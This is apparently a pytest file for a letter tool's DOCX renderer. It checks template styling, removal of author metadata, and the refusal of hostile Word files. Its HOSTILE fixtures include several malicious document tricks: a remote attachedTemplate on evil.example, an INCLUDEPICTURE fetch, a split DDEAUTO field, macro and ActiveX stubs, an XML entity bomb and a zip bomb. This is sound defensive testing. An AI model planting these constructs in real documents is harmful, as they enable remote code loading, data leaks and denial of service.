"""A section's own letter.docx: what it gives, and what is refused in one that a stranger made."""

import struct
import zlib
from collections.abc import Callable
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile

import docx
import pytest
import word_files
from docx.document import Document
from golden_letters import mailings
from program import Ended
from project import Project
from word_files import changed, parts, reference

from appeals.formats.docx import DocxFormat
from appeals.formats.protocol import LetterError, TypesettingOptions
from appeals.formats.stationery import Stationery
from appeals.letters.letter import SenderBlock


def chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG = (
    b"\x89PNG\r\n\x1a\n"
    + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    + chunk(b"tEXt", b"Author\0Jane Roe")
    + chunk(b"IDAT", zlib.compress(b"\0\0"))
    + chunk(b"IEND", b"")
)


PLAIN = reference()


def with_logo(document: Document) -> None:
    header = document.sections[0].header.paragraphs[0]
    header.add_run().add_picture(BytesIO(PNG))
    header.runs[-1]._r.xpath(".//pic:cNvPr")[0].set("name", "C:\\Users\\jane\\logo.png")  # noqa: SLF001 - the element


def made(folder: Path, content: bytes, letter: int = 0) -> bytes:
    (folder / "letter.docx").write_bytes(content)
    renderer = DocxFormat().open(Stationery.of([folder]), TypesettingOptions())
    return renderer.render(mailings("de")[letter]).content


def test_it_gives_styles_letterhead_logo_and_margins(tmp_path: Path) -> None:
    content = made(tmp_path, reference(with_logo))
    document = docx.Document(BytesIO(content))
    section = document.sections[0]
    assert section.left_margin is not None
    assert round(section.left_margin.mm) == 30
    assert document.styles["Normal"].font.name == "Georgia"
    assert section.first_page_header.paragraphs[0].text == section.header.paragraphs[0].text == "Section of Exampleland"
    pictures = [part for name, part in parts(content).items() if name.startswith("word/media/")]
    assert pictures == [PNG.replace(chunk(b"tEXt", b"Author\0Jane Roe"), b"")]


def test_nothing_tells_who_made_it(tmp_path: Path) -> None:
    def signed(document: Document) -> None:
        with_logo(document)
        document.core_properties.author = "Jane Roe"
        document.add_paragraph("Notes of Jane Roe")

    everything = b"".join(parts(made(tmp_path, reference(signed))).values())
    assert b"Jane" not in everything
    assert b"jane" not in everything
    assert b"rsid" not in everything


def test_the_letterhead_stands_for_the_lines_of_the_sender(tmp_path: Path) -> None:
    (tmp_path / "letter.docx").write_bytes(reference())
    renderer = DocxFormat().open(Stationery.of([tmp_path]), TypesettingOptions())
    (mailing, *_) = mailings("en")
    headed = replace(mailing.letter, sender=SenderBlock(letterhead=("Another Name",)), draft="DRAFT")
    content = renderer.render(replace(mailing, letter=headed)).content
    assert "Another Name" not in word_files.text(content)
    header = parts(content)["word/header1.xml"].decode()
    assert header.index("DRAFT") < header.index("Section of Exampleland")


def relationship(kind: str, target: str, mode: str = ' TargetMode="External"') -> Callable[[bytes], bytes]:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    added = f'<Relationship Id="rId99" Type="{office}/{kind}" Target="{target}"{mode}/></Relationships>'
    return lambda part: part.replace(b"</Relationships>", added.encode())


def in_header(xml: str) -> Callable[[bytes], bytes]:
    return lambda part: part.replace(b"</w:hdr>", f"{xml}</w:hdr>".encode())


def run(xml: str) -> Callable[[bytes], bytes]:
    return in_header(f"<w:p><w:r>{xml}</w:r></w:p>")


def field(instruction: str) -> Callable[[bytes], bytes]:
    return run(
        f'<w:fldChar w:fldCharType="begin"/><w:instrText>{instruction}</w:instrText><w:fldChar w:fldCharType="end"/>'
    )


BOMB = b'<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;">]>'
HEADER = next(name for name in parts(PLAIN) if name.startswith("word/header"))
HOSTILE: dict[str, tuple[dict[str, Any], str]] = {
    "external template": (
        {"word/_rels/document.xml.rels": relationship("attachedTemplate", "http://evil.example/t.dotm")},
        r"leads out of the file \(attachedTemplate\).*Normal.dotm",
    ),
    "hyperlink": (
        {"word/_rels/document.xml.rels": relationship("hyperlink", "https://e.example")},
        "remove the hyperlink",
    ),
    "linked picture": (
        {"word/_rels/document.xml.rels": relationship("image", "\\\\evil\\a.png")},
        "insert the picture",
    ),
    "other spelling of external": (
        {"word/_rels/document.xml.rels": relationship("image", "x", ' TargetMode="external"')},
        "leads out of the file",
    ),
    "macros": ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "macros"),
    "controls": ({"word/activeX/activeX1.bin": b"x"}, "macros, controls"),
    "entities": ({"word/styles.xml": lambda part: BOMB + part.split(b"?>", 1)[1]}, "declares entities"),
    "entities in a file that nothing refers to": ({"custom/a.xml": BOMB + b"<a>&c;</a>"}, "declares entities"),
    "entities in UTF-16": ({"word/styles.xml": lambda part: part.decode().encode("utf-16")}, "not UTF-8"),
    "entities in UTF-7": ({"custom/a.xml": b'<?xml version="1.0" encoding="utf-7"?><a/>'}, "not UTF-8"),
    "deep XML": ({HEADER: in_header("<w:a>" * 5000 + "</w:a>" * 5000)}, "cannot read it|no XML"),
    "broken XML": ({"word/styles.xml": b"<w:styles"}, "cannot read it|no XML"),
    "zip bomb": ({"word/media/a.bin": bytes(40 * 2**20)}, "unpacks to more than 32 MiB"),
    "many parts": ({f"a{number}": b"" for number in range(600)}, "more than 500 parts"),
    "a field that fetches": ({HEADER: field("INCLUDEPICTURE http://evil.example/a.png")}, "a field INCLUDEPICTURE"),
    "a field in pieces": (
        {HEADER: field("</w:instrText><w:instrText>DDE</w:instrText><w:instrText>AUTO c")},
        "a field DDEAUTO",
    ),
    "a simple field": ({HEADER: in_header('<w:p><w:fldSimple w:instr="FILENAME"/></w:p>')}, "a field FILENAME"),
    "tracked changes": ({HEADER: in_header('<w:p><w:ins w:author="Jane Roe"/></w:p>')}, "tracked changes: accept them"),
    "an object": ({HEADER: run("<w:object/>")}, "an embedded object"),
    "another document": ({HEADER: in_header('<w:altChunk r:id="rId1"/>')}, "another document"),
    "a picture by its address": (
        {HEADER: run('<w:pict><v:image xmlns:v="urn:x" src="http://e.example"/></w:pict>')},
        "leads out",
    ),
    "a part that is not there": (
        {HEADER: run('<w:pict><v:i xmlns:v="urn:x" r:id="rId77"/></w:pict>')},
        "refers to a part",
    ),
    "a header without a paragraph": (
        {HEADER: lambda part: part[: part.index(b">", part.index(b"<w:hdr"))] + b"/>"},
        "has no paragraph",
    ),
    "no Word document": ({"[Content_Types].xml": b'<Types xmlns="a"/>'}, "save it as .docx"),
    "a template": (
        {"[Content_Types].xml": lambda part: part.replace(b"document.main", b"template.main")},
        "save it as .docx",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_document_is_refused_with_a_sentence(tmp_path: Path, name: str) -> None:
    changes, sentence = HOSTILE[name]
    content = changed(PLAIN, changes)
    assert content != PLAIN
    with pytest.raises(LetterError, match=rf"^letter\.docx: .*({sentence})"):
        made(tmp_path, content)


def packed(method: int, *names: str) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", method) as file:
        for name in names:
            file.writestr(name, b"<a/>")
    return out.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"PK\x03\x04",
        b"\xd0\xcf\x11\xe0" * 200,
        packed(ZIP_DEFLATED, "a.xml"),
        packed(ZIP_BZIP2, "a.xml"),
        packed(ZIP_DEFLATED, "a", "A"),
    ],
)
def test_what_is_no_word_file_is_refused(tmp_path: Path, content: bytes) -> None:
    with pytest.raises(LetterError, match=r"^letter\.docx: "):
        made(tmp_path, content)


def test_a_picture_that_is_no_png_or_jpeg_is_refused(tmp_path: Path) -> None:
    logo = reference(with_logo)
    (name,) = (name for name in parts(logo) if name.startswith("word/media/"))
    for content in (b"GIF89a", PNG[:-8], b"\xff\xd8\xff\xe1\x00\x10"):
        with pytest.raises(LetterError, match=r"no PNG and no JPEG|damaged picture"):
            made(tmp_path, changed(logo, {name: content}))


def test_only_word_files_fail_by_a_bad_reference(project: Project, render: Callable[..., Ended]) -> None:
    campaign = project.campaign()
    (project.folder / "campaigns" / "templates").mkdir()
    (project.folder / "campaigns" / "templates" / "letter.docx").write_bytes(b"no Word file")
    ended = render(campaign, "--format", "docx,text")
    assert ended.code == 1
    assert ended.err.count("letter.docx: this is no Word file") == 1
    assert list(project.files()) == ["manifest.jsonl", "xx-minister.en.txt"]
